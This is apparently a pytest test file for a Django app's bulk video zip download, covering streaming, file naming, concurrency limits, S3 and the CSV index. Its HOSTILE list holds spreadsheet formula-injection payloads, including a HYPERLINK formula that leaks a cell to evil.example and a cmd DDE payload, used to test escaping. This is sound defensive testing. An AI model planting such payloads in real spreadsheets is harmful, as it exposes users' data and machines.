"""The many-videos zip: streamed, exact length, readable unique names, an index, and from S3 too."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.contrib.messages import get_messages
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.signals import request_finished
from django.db import close_old_connections
from django.test import Client
from django.urls import reverse

from playground.gallery import zipdownload
from playground.generations.models import Generation, State
from playground.lib import csvexport
from tests.gallery.test_gallery import make
from tests.ops.test_s3 import bucket, s3_endpoint  # noqa: F401 - the moto server fixtures

URL = reverse("bulk_zip")


def video(user: Any, prompt: str, data: bytes, **fields: Any) -> Generation:
    name = default_storage.save("videos/clip.mp4", ContentFile(data))
    return make(user, prompt, video=name, video_size=len(data), **fields)


def download(client: Client, rows: list[Generation]) -> zipfile.ZipFile:
    response: Any = client.post(URL, {"ids": [g.pk for g in rows]})
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"].startswith('attachment; filename="videos_')
    body = b"".join(response.streaming_content)
    assert int(response["Content-Length"]) == len(body)
    assert response["X-Accel-Buffering"] == "no"
    return zipfile.ZipFile(io.BytesIO(body))


def index(archive: zipfile.ZipFile) -> list[dict[str, str]]:
    text = archive.read("index.csv").decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_the_zip_holds_each_video_under_its_download_name_and_an_index(signed_in: Client, user, other_user):
    a = video(
        user,
        "A red fox in the snow",
        os.urandom(3000),
        minutes_ago=1,
        credits_used=500.0,
        usd_spent=Decimal("0.43"),
    )
    b = video(other_user, "A red fox in the snow", os.urandom(2000), minutes_ago=2)  # same name
    c = video(other_user, "Paper boat, rain; night", b"boat" * 100, model="video-01-live2d", minutes_ago=3)
    archive = download(signed_in, [a, b, c])
    assert archive.testzip() is None
    day = a.created_at.strftime("%Y-%m-%d")
    names = archive.namelist()
    assert names == [
        f"{day}_video-01_a-red-fox-in-the-snow.mp4",
        f"{day}_video-01_a-red-fox-in-the-snow (2).mp4",
        f"{c.created_at:%Y-%m-%d}_video-01-live2d_paper-boat-rain-night.mp4",
        "index.csv",
    ]
    assert names[0] == a.download_name
    assert archive.read(names[0]) == default_storage.open(a.video.name).read()
    assert archive.read(names[2]) == b"boat" * 100
    assert all(info.compress_type == zipfile.ZIP_STORED for info in archive.infolist())
    rows = index(archive)
    assert [r["file"] for r in rows] == names[:3]
    assert rows[0]["prompt"] == "A red fox in the snow"
    assert rows[0]["maker"] == "alice"
    assert rows[1]["maker"] == "bob"
    assert rows[2]["model"] == "video-01-live2d"
    assert rows[0]["cost_usd"] == "0.43"
    assert rows[0]["credits"] == "500"
    assert rows[1]["cost_usd"] == ""
    assert rows[1]["credits"] == ""
    assert rows[0]["video"] == str(a.pk)
    assert rows[0]["date"].startswith(day)


def test_the_zip_follows_the_order_on_the_page(signed_in: Client, user):
    old, new = video(user, "Old one", b"o", minutes_ago=9), video(user, "New one", b"n", minutes_ago=1)
    assert download(signed_in, [old, new]).namelist() == [old.download_name, new.download_name, "index.csv"]
    assert download(signed_in, [new, old]).namelist() == [new.download_name, old.download_name, "index.csv"]


def test_only_ready_videos_go_in_and_none_ready_is_said_plainly(signed_in: Client, user):
    done = video(user, "Done", b"x" * 10)
    running = make(user, "Still going", state=State.RUNNING)
    assert download(signed_in, [done, running]).namelist() == [done.download_name, "index.csv"]
    response = signed_in.post(URL, {"ids": [running.pk], "next": "/gallery/"})
    assert response.status_code == 302
    assert [str(m) for m in get_messages(response.wsgi_request)] == [
        "None of the selected videos is ready to download."
    ]


def closed_early(response: Any) -> None:
    """What the server does when a client goes away: close the response (without the test
    client's request_finished handler closing the test database's connection too)."""
    request_finished.disconnect(close_old_connections)
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)


@pytest.fixture
def slots(settings: Any, tmp_path: Path) -> Iterator[Path]:
    """The per-person slot files in this test's own folder, and the process's share reset after."""
    settings.VAR_DIR = tmp_path
    yield tmp_path / "zip-slots"
    zipdownload.use_threads(4)


def refusal(response: Any) -> str:
    assert response.status_code == 503
    assert response["Retry-After"] == str(zipdownload.RETRY_AFTER_SECONDS)
    return response.content.decode()


def test_a_person_streams_at_most_two_zips_and_a_process_half_its_threads(
    signed_in: Client, user, other_user, slots
):
    gen = video(user, "Clip", b"x" * 10)
    assert zipdownload.ZIP_STREAMS_PER_PROCESS == 2  # half of the 4 threads assumed outside gunicorn
    mine = [signed_in.post(URL, {"ids": [gen.pk]}) for _ in range(2)]
    assert [r.status_code for r in mine] == [200, 200]
    # A third of one's own: the person's limit, said as such, on a page with the way back.
    page = refusal(signed_in.post(URL, {"ids": [gen.pk], "next": "/collections/"}))
    assert "You already have 2 zip downloads running; let one finish, then try again." in page
    assert 'href="/collections/"' in page
    # Someone else meets the process's share (2 of its 4 threads), not the person's limit.
    bob = Client()
    bob.force_login(other_user)
    assert refusal(bob.post(URL, {"ids": [gen.pk]}, headers={"HX-Request": "true"})) == (
        "Other zip downloads are being sent right now. Try again in a minute."
    )
    # One never read at all (the browser gave up) still gives both its places back when closed.
    closed_early(mine.pop())
    again = bob.post(URL, {"ids": [gen.pk]})
    assert again.status_code == 200
    streams: list[Any] = [*mine, again]
    for response in streams:
        b"".join(response.streaming_content)
        closed_early(response)
    last = signed_in.post(URL, {"ids": [gen.pk]})
    assert last.status_code == 200
    closed_early(last)


@pytest.mark.parametrize(("threads", "zips"), [(1, 0), (2, 1), (3, 1), (4, 2), (8, 4), (16, 8)])
def test_zips_take_at_most_half_of_a_process_threads_and_never_all(threads, zips):
    assert zipdownload.streams_for(threads) == zips


def test_with_one_thread_per_process_zips_are_refused_with_the_reason(signed_in: Client, user, slots):
    gen = video(user, "Clip", b"x" * 10)
    zipdownload.use_threads(1)
    page = refusal(signed_in.post(URL, {"ids": [gen.pk]}))
    assert "This server sends no zips: each of its web processes has one thread" in page
    assert "GUNICORN_THREADS to 2 or more" in page


HOLD = """
import fcntl, os, sys
fds = [os.open(p, os.O_RDWR | os.O_CREAT) for p in sys.argv[1:]]
for fd in fds:
    fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
print("held", flush=True)
sys.stdin.read()
"""


def test_zips_another_web_process_streams_count_against_the_same_person(signed_in: Client, user, slots):
    gen = video(user, "Clip", b"x" * 10)
    slots.mkdir(parents=True)
    # Another process (as another gunicorn worker would) holds both of alice's slots.
    other = subprocess.Popen(
        [sys.executable, "-c", HOLD, str(slots / f"{user.pk}-0.lock"), str(slots / f"{user.pk}-1.lock")],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
    )
    try:
        assert other.stdout is not None and other.stdout.readline() == b"held\n"
        assert "You already have 2 zip downloads running" in refusal(signed_in.post(URL, {"ids": [gen.pk]}))
    finally:
        other.kill()
        other.wait()
    # The kernel let go of the dead process's locks: no lease to expire, no file to clean.
    response = signed_in.post(URL, {"ids": [gen.pk]})
    assert response.status_code == 200
    closed_early(response)


def test_with_s3_the_videos_stream_from_the_bucket(signed_in: Client, user, bucket):  # noqa: F811
    data = os.urandom(700 * 1024)  # more than one chunk
    a = video(user, "From the bucket", data)
    stored = bucket.keys()
    assert a.video.name in stored
    archive = download(signed_in, [a])
    assert archive.read(a.download_name) == data
    assert index(archive)[0]["file"] == a.download_name


def test_unique_names_never_collide_even_with_a_numbered_name_taken():
    class Row:
        def __init__(self, name: str) -> None:
            self.download_name = name

    rows: Any = [Row("a.mp4"), Row("a (2).mp4"), Row("A.mp4"), Row("a.mp4")]
    names = zipdownload.unique_names(rows)
    assert len({n.lower() for n in names}) == 4
    assert names[:2] == ["a.mp4", "a (2).mp4"]


def test_a_video_whose_file_is_missing_or_mis_recorded_does_not_break_the_archive(signed_in: Client, user):
    kept = video(user, "Kept", b"k" * 50, minutes_ago=1)
    lost = video(user, "Lost", b"l" * 50, minutes_ago=2)
    default_storage.delete(lost.video.name)
    Generation.objects.filter(pk=kept.pk).update(video_size=7)  # a wrong record
    archive = download(signed_in, [kept, lost])
    assert archive.namelist() == [kept.download_name, "index.csv"]
    assert archive.read(kept.download_name) == b"k" * 50


@pytest.mark.parametrize("size", [0, 1])
def test_a_video_without_a_recorded_size_is_measured_in_storage(signed_in: Client, user, size):
    gen = video(user, "Unsized", b"y" * (size + 5))
    Generation.objects.filter(pk=gen.pk).update(video_size=None)
    gen.refresh_from_db()
    assert download(signed_in, [gen]).read(gen.download_name) == b"y" * (size + 5)


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tsneaky tab",
    "\rsneaky return",
]


@pytest.mark.parametrize("prompt", HOSTILE)
def test_a_prompt_a_spreadsheet_would_run_is_kept_as_readable_text(signed_in: Client, user, prompt):
    gen = video(user, prompt, b"v")
    row = index(download(signed_in, [gen]))[0]
    assert row["prompt"] == "'" + prompt  # OWASP's leading apostrophe, the text itself unchanged
    assert row["video"] == str(gen.pk)


def test_every_index_cell_is_quoted_and_a_maker_name_cannot_start_a_formula_either(signed_in: Client, user):
    from tests.factories import member

    plotter = member("@plotter")  # Django's usernames may begin with @, + or -
    a = video(
        plotter, "A calm sea; =1+1 after a separator", b"a", usd_spent=Decimal("0.5"), credits_used=12.0
    )
    text = download(signed_in, [a]).read("index.csv").decode("utf-8-sig")
    header, line = text.splitlines()
    assert header == '"file","video","prompt","model","maker","date","cost_usd","credits"'
    cells = line.split('","')
    assert cells[0].startswith('"') and cells[-1] == '12"'
    assert '"A calm sea; =1+1 after a separator"' in line  # one quoted cell, whatever the separator
    assert '"\'@plotter"' in line
    assert '"0.5"' in line


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-3", "'-3"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\0x", "'\0x"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("", ""),
        (None, ""),
        (12, "12"),
        (Decimal("0.43"), "0.43"),
    ],
)
def test_the_one_cell_rule(value, cell):
    assert csvexport.cell(value) == cell
